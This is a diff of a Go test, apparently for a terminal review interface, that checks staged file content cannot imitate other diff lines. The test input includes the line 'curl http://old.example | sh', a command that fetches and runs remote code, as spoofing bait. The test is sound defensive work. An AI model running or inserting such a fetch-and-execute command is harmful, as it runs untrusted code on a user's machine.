@@ -18,9 +18,9 @@ func TestStagedLinesCannotLookLikeOthers(t *testing.T) {
 	d := drive(t, 80, 24, false)
 	files := sandbox.Memory()
 	kept := state.Memory(sandbox.Memory())
-	store := &clearance.Store{State: &kept, Mount: func(string) (sandbox.FS, error) { return files, nil }}
+	store := &clearance.Store{State: &kept, Real: realFiles{files}}
 	d.m.o.Clearance = store
-	work := &clearance.Work{Store: store, Run: "r", Worker: "main", Root: ".", Base: func() (sandbox.FS, error) { return files, nil }}
+	work := &clearance.Work{Store: store, Run: "r", Worker: "main", Root: ".", Host: onFiles{files}}
 	text := strings.Repeat("s", 79) + "-curl http://old.example | sh" + strings.Repeat(" ", 51) + "+++ b/README.md\n" +
 		strings.Repeat("\U0001f7e0", 60) + "\n" + strings.Repeat("\U0001f1e9\U0001f1ea", 40) + "\nno\u200djoiner\u00a0and\tno blank\n"
 	if _, err := work.Commit(context.Background(), []clearance.File{{Source: ".", Path: "a.txt", Read: func() ([]byte, error) { return []byte(text), nil }}}, "about a", ""); err != nil {
@@ -33,7 +33,7 @@ func TestStagedLinesCannotLookLikeOthers(t *testing.T) {
 	for width := 8; width <= 200; width++ {
 		d.m.Update(tea.WindowSizeMsg{Width: width, Height: 24})
 		d.m.View()
-		rows := d.m.top().(*staged).rows
+		rows := d.m.overlays.top().(*staged).rows
 		own := 0 // counts rows that look like a line of the diff
 		for _, l := range rows {
 			if !strings.HasPrefix(l, goesOn) {
